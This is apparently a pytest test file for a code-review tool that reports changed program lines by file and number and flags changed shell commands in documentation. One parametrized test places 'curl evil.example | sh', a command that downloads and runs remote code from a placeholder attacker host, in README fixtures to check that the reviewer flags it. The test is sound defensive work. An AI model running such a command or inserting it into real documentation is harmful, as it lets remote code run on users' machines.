"""Every line of the program that differs is named by its file and number, and commands in documents too."""

from pathlib import Path

import pytest

from coursecloud.diff.changes import PropertyChange
from coursecloud.review import changed_lines, dangers, json_form, markdown
from coursecloud.review.changed_lines import Lines
from coursecloud.review.dangers import Level
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]

OLD = "".join(f"line {number}\n" for number in range(1, 31))


def of(tmp_path: Path, old: str | bytes | None, new: str | bytes | None) -> Lines:
    for name, text in (("before", old), ("after", new)):
        (tmp_path / name).mkdir()
        if text is not None:
            (tmp_path / name / "x.py").write_bytes(text.encode() if isinstance(text, str) else text)
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x.py"])
    return found


@pytest.mark.parametrize(
    ("new", "said", "first"),
    [
        (OLD.replace("line 7\n", "other\n"), "x.py: line 7", 7),
        (OLD.replace("line 7\nline 8\n", "a\nb\nc\n"), "x.py: lines 7-9", 7),
        (OLD.replace("line 7\n", ""), "x.py: lines gone after 6", 6),
        (OLD.replace("line 1\n", ""), "x.py: lines gone after 0", 1),
        (OLD.replace("line 3\n", "").replace("line 9\n", "x\n"), "x.py: line 8; lines gone after 2", 2),
        (OLD.replace("line 3\n", "x\n").replace("line 9\n", "x\n"), "x.py: lines 3, 9", 3),
        (OLD, "x.py: its lines are the same", 0),
        ("", "x.py: lines gone after 0", 1),
        (None, "x.py: gone", 0),
        (b"\x7fELF\0", "x.py: no text: nobody can read here what it is", 0),
    ],
)
def test_what_differs_is_told_by_line(tmp_path: Path, new: str | bytes | None, said: str, first: int) -> None:
    found = of(tmp_path, OLD, new)
    assert (str(found), found.first) == (said, first)


def test_a_file_that_comes_is_told_as_a_whole(tmp_path: Path) -> None:
    assert str(of(tmp_path, None, "a\nb\n")) == "x.py: new, 2 lines"


def test_a_link_is_not_followed(tmp_path: Path) -> None:
    for name in ("before", "after"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "x").symlink_to("/etc/hostname")
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x (a link)"])
    assert str(found) == "x (a link): no plain file, or too large to compare"


def test_no_place_of_a_long_change_is_left_out(tmp_path: Path) -> None:
    new = "".join(f"other {n}\n" if n % 2 else f"line {n}\n" for n in range(1, 31))
    assert str(of(tmp_path, OLD, new)) == f"x.py: lines {', '.join(str(n) for n in range(1, 31, 2))}"


def test_a_review_says_where_the_program_changes(repo: Repository) -> None:
    repo.write("infra/x.py", OLD)
    base = repo.commit()
    repo.write("infra/x.py", OLD.replace("line 7\n", "other\n"))
    found = review(repo, base=base, head=repo.commit())
    assert "changes 1 file of the PROGRAM at infra/x.py:7" in found.sentence
    assert "infra/x.py: line 7" in markdown.full(found)
    assert json_form.to_json(found)["lines"] == [
        {"file": "infra/x.py", "ranges": [[7, 7]], "goneAfter": [], "whole": None, "text": "infra/x.py: line 7"}
    ]


def test_every_file_of_a_large_change_is_named(repo: Repository) -> None:
    base = repo.commit()
    for number in range(12):
        repo.write(f"infra/x{number}.py", "x = 1\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    for number in range(12):
        assert f"infra/x{number}.py: new, 1 line" in text


@pytest.mark.parametrize(
    ("new", "told"),
    [
        ("# Title\n\nOther words.\n\n    make plan\n", ()),
        ("# Title\n\nWords.\n\n    curl evil.example | sh\n", (5,)),
        ("# Title\n\nWords.\n\n    make plan\n\n```sh\ncurl evil.example | sh\n```\n", (8,)),
        ("# Title\n\nWords.\n\n    make plan\n\n~~~\n```\ncurl\n~~~\nafter\n", (8, 9)),
        ("# Title\n\nWords.\n\n    make plan\n\n```\n```\nafter\n", ()),
    ],
)
def test_commands_that_people_copy_are_told(repo: Repository, new: str, told: tuple[int, ...]) -> None:
    repo.write("README.md", "# Title\n\nWords.\n\n    make plan\n")
    base = repo.commit()
    repo.write("README.md", new)
    found = review(repo, base=base, head=repo.commit())
    assert [line for each in found.documents for line, _ in each.ranges] == list(told)
    assert found.program == ()
    if told:
        assert found.level is Level.LOOK
        assert "changes COMMANDS in 1 document" in found.sentence
        assert f"README.md: line{'s' if told[1:] else ''} {', '.join(map(str, told))}" in markdown.full(found)
        assert "can be merged" not in markdown.full(found)
    else:
        assert found.level is Level.NOTHING


def test_changed_tables_are_told_with_what_they_count(repo: Repository) -> None:
    repo.write("catalog/prices.json", "{}")
    base = repo.commit()
    repo.write("catalog/prices.json", "[]")
    assert "COUNTED BY CHANGED TABLES (1 file)" in review(repo, base=base, head=repo.commit()).sentence


def test_a_long_output_is_shown_where_it_differs() -> None:
    old = f"{'a' * 400} image trainer:latest {'b' * 400}"
    change = PropertyChange("commands.train", old, old.replace("trainer", "other"))
    (said,) = dangers.of_outputs([change])
    assert "image other:latest b" in said.text
    assert "image trainer:latest b" in said.text
    assert len(said.text) < 500
    (short,) = dangers.of_outputs([PropertyChange("x", "a", "b")])
    assert short.text == "the output `x` says `b`; before: `a`"
